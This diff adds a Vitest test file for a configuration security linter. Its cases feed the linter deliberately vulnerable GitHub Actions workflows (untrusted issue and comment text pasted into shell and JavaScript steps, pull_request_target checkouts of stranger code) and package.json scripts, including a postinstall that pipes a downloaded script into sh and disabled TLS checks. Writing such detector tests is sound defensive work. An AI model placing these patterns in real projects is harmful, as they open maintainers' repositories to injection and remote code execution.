@@ -1,0 +1,154 @@
+import { describe, expect, it } from 'vitest';
+import { parseConfig } from '../config/parse';
+import { rules } from './registry.generated';
+
+/** Cases in formats without comments, and of files that go by their folder. */
+
+function seen(name: string, language: 'workflow' | 'npm', text: string): string[] {
+  const file = parseConfig(language, name, text);
+  return rules.flatMap((rule) =>
+    (rule.config?.(file) ?? []).map(
+      ({ at, severity }) => `${severity} ${rule.id}: ${text.slice(at.start, at.end)}`,
+    ),
+  );
+}
+
+const workflow = (...lines: string[]) =>
+  seen('.github/workflows/any.yml', 'workflow', lines.join('\n'));
+const value = (expression: string) => ['$', `{{ ${expression} }}`].join('');
+
+describe('workflows', () => {
+  const run = (on: string, script: string) =>
+    workflow(`on: ${on}`, 'jobs:', '  j:', '    steps:', `      - run: ${script}`);
+
+  it.each([
+    ['issues', `echo "${value('github.event.issue.title')}"`, 'error'],
+    ['[push, issue_comment]', `echo ${value("github.event['comment'].body")}`, 'error'],
+    ['pull_request', `git checkout ${value('github.head_ref')}`, 'warning'],
+    ['push', `echo ${value('github.event.commits[0].message')}`, 'warning'],
+    ['pull_request', `echo '${value('toJSON(github.event)')}'`, 'warning'],
+  ])('on %s: %s', (on, script, severity) => {
+    const [found, ...more] = run(on, script);
+    expect(found).toMatch(new RegExp(`^${severity} dangerous-workflow: \\$`));
+    expect(more).toEqual([]);
+  });
+
+  it.each([
+    `echo ${value('github.event.issue.number')}`,
+    `echo ${value('github.event.pull_request.head.sha')}`,
+    `test ${value("contains(github.event.comment.body, '/deploy')")}`,
+    `echo ${value("github.head_ref == 'main' && 'yes' || 'no'")}`,
+    'echo "$TITLE"',
+    `echo ${value('secrets.TOKEN')}`,
+  ])('silent: %s', (script) => {
+    expect(run('issues', script)).toEqual([]);
+  });
+
+  it('a variable of the workflow is pasted as well, one of the shell is not', () => {
+    const lines = [
+      'on: issues',
+      'env:',
+      `  TITLE: ${value('github.event.issue.title')}`,
+      'jobs:',
+      '  j:',
+      '    steps:',
+      `      - run: echo ${value('env.TITLE')}`,
+      '      - run: echo "$TITLE"',
+    ];
+    expect(workflow(...lines)).toEqual([`error dangerous-workflow: ${value('env.TITLE')}`]);
+  });
+
+  it('a script of JavaScript', () => {
+    const lines = [
+      'on: issues',
+      'jobs:',
+      '  j:',
+      '    steps:',
+      '      - uses: actions/github-script@v7',
+      '        with:',
+      '          script: |',
+      `            console.log("${value('github.event.issue.body')}")`,
+    ];
+    expect(workflow(...lines)).toEqual([
+      `error dangerous-workflow: ${value('github.event.issue.body')}`,
+    ]);
+  });
+
+  const checkout = (...more: string[]) =>
+    workflow(
+      'on: pull_request_target',
+      'jobs:',
+      '  j:',
+      ...more.filter((line) => !line.startsWith('-')).map((line) => `    ${line}`),
+      '    steps:',
+      '      - uses: actions/checkout@v4',
+      '        with:',
+      `          ref: ${value('github.event.pull_request.head.sha')}`,
+      ...more.filter((line) => line.startsWith('-')).map((line) => `      ${line}`),
+    ).map((line) => line.split(':', 1)[0]);
+
+  it('code of a stranger: fetched, run, or with the word of somebody', () => {
+    expect(checkout()).toEqual(['warning dangerous-workflow']);
+    expect(checkout('- run: npm ci')).toEqual(['error dangerous-workflow']);
+    expect(checkout('environment: review', '- run: npm ci')).toEqual([]);
+    const own = value('github.event.pull_request.head.repo.full_name == github.repository');
+    expect(checkout(`if: ${own}`, '- run: npm ci')).toEqual([]);
+  });
+
+  it('rights and commands', () => {
+    expect(
+      workflow('permissions: write-all', 'env:', '  ACTIONS_ALLOW_UNSECURE_COMMANDS: true'),
+    ).toEqual(['warning dangerous-workflow: write-all', 'warning dangerous-workflow: true']);
+    expect(workflow('permissions:', '  contents: write')).toEqual([]);
+  });
+
+  it('actions of others', () => {
+    const lines = [
+      'jobs:',
+      '  j:',
+      '    container: node',
+      '    steps:',
+      '      - uses: actions/setup-node@v4',
+      '      - uses: ./.github/actions/own',
+      '      - uses: some/thing@main',
+      '      - uses: docker://alpine:3.20',
+      '  k:',
+      '    uses: some/flows/.github/workflows/x.yml@v1',
+    ];
+    expect(workflow(...lines)).toEqual([
+      'hint unpinned-image: node',
+      'hint unpinned-image: some/thing@main',
+      'hint unpinned-image: some/flows/.github/workflows/x.yml@v1',
+    ]);
+  });
+});
+
+describe('package.json', () => {
+  const scripts = (all: Record<string, string>) =>
+    seen('package.json', 'npm', JSON.stringify({ scripts: all }));
+
+  it('commands that trust everyone', () => {
+    expect(
+      scripts({
+        postinstall: 'curl http://get.example.org/x.sh | sh',
+        start: 'NODE_TLS_REJECT_UNAUTHORIZED=0 node --inspect=0.0.0.0 server.js',
+        'dev:debug': 'node --inspect-brk=0.0.0.0:9229 server.js',
+      }),
+    ).toEqual([
+      'warning cleartext-transport: http://get.example.org/x.sh',
+      'warning debug-enabled: --inspect=0.0.0.0',
+      'hint debug-enabled: --inspect-brk=0.0.0.0',
+      'warning tls-verification-disabled: NODE_TLS_REJECT_UNAUTHORIZED=0',
+    ]);
+  });
+
+  it('plain commands are silent', () => {
+    expect(
+      scripts({
+        test: 'NODE_ENV=test vitest',
+        start: 'node --inspect server.js',
+        get: 'curl http://localhost | sh',
+      }),
+    ).toEqual([]);
+  });
+});
